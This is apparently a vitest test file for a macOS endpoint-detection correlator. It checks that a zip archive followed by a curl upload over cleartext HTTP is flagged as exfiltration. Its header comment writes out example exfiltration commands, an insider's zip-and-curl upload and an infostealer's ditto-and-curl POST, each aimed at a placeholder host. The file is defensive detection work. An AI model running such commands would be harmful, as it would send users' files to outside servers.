/**
 * An archive made by the group, then uploaded over plain HTTP, with no tier-1/2 read in the group's window. Over TLS the
 * archive alone is AN1415's precursor; over HTTP AN0425 wanted a sensitive read, so the cleartext upload, the worse of
 * the two, was no precursor-backed candidate (only AN0032, which never fires on Apple's zip and curl run from a shell).
 * - Insider: `zip -qr /tmp/q.zip ~/work/product && curl -T /tmp/q.zip http://<VPS>/` (a source tree matches no rule).
 * - AMOS's, Poseidon's and Odyssey's FileGrabber: Finder `duplicate`s Desktop and Documents files and the Notes store into
 *   the staging folder (tier-2 copies are not followed, so their reads stay in Finder's group), then `ditto -c -k` and
 *   `curl -X POST -F …@/tmp/x.zip http://<IP>/…`: on a Mac where the tier-1 part finds nothing to take, or a variant
 *   that only grabs files, the archive is the group's only precursor.
 */
import { describe, expect, it } from 'vitest';
import { correlate } from './correlate.js';
import { MiB, NOW, TERMINAL, TERMINAL_SIGNING, ZSH, buildWorld } from './testing/world.js';

const ZIP = { pid: 820, processStart: NOW - 200, ppid: ZSH.pid, path: '/usr/bin/zip', tty: true, signingId: 'com.apple.zip', platformBinary: true };
const CURL = { pid: 830, processStart: NOW - 60, ppid: ZSH.pid, path: '/usr/bin/curl', tty: true, signingId: 'com.apple.curl', platformBinary: true };
const ZIPPED = { pid: ZIP.pid, ppid: ZSH.pid, process_start: ZIP.processStart, path: ZIP.path, tool: 'zip' as const, time: NOW - 190, archive_path: '/tmp/q.zip', args: 'zip -qr /tmp/q.zip /Users/alice/work/product', staging: 1 };

const rows = (flow: { remotePort: number; bytesOut: number; bytesIn: number }, archive = [ZIPPED]) =>
  correlate(
    buildWorld({
      processes: [TERMINAL, ZSH, ZIP, CURL],
      signing: [...TERMINAL_SIGNING, { path: ZIP.path, cls: 'apple_platform', signingId: 'com.apple.zip' }],
      archive,
      flows: [{ pid: CURL.pid, processStart: CURL.processStart, remote: '203.0.113.7', ...flow, firstSeen: NOW - 55, lastSeen: NOW - 20 }],
    }),
  ).rows;
const an0425 = (flow: { remotePort: number; bytesOut: number; bytesIn: number }, archive = [ZIPPED]) => rows(flow, archive).filter((r) => r.analytic === 'AN0425');

describe('an archive, then an upload over plain HTTP', () => {
  it("over TLS the archive is AN1415's precursor", () => {
    expect(rows({ remotePort: 443, bytesOut: 30 * MiB, bytesIn: 500 }).map((r) => r.analytic)).toContain('AN1415');
  });

  it('over HTTP the upload of the archive is an AN0425 candidate, its precursor the archive', () => {
    const r = an0425({ remotePort: 80, bytesOut: 30 * MiB, bytesIn: 500 });
    expect(r).toEqual([expect.objectContaining({ pid: CURL.pid, precursor_kind: 'archive', precursor_path: '/tmp/q.zip', archive_tool: 'zip' })]);
    expect(r[0]!.reasons.split(',')).toEqual(expect.arrayContaining(['archive_precursor', 'staging_path', 'upload_shaped', 'cleartext']));
  });

  it('also a stealer-sized haul (1.5 MiB) to :8080', () => {
    expect(an0425({ remotePort: 8080, bytesOut: 1.5 * MiB, bytesIn: 300 })).toHaveLength(1);
  });

  it('not an HTTP exchange that is no upload (an update check, a download) after an archive', () => {
    expect(an0425({ remotePort: 80, bytesOut: 4000, bytesIn: 9000 })).toEqual([]);
    expect(an0425({ remotePort: 80, bytesOut: 2 * MiB, bytesIn: 40 * MiB })).toEqual([]);
  });

  it('not without the archive', () => {
    expect(an0425({ remotePort: 80, bytesOut: 30 * MiB, bytesIn: 500 }, [])).toEqual([]);
  });
});
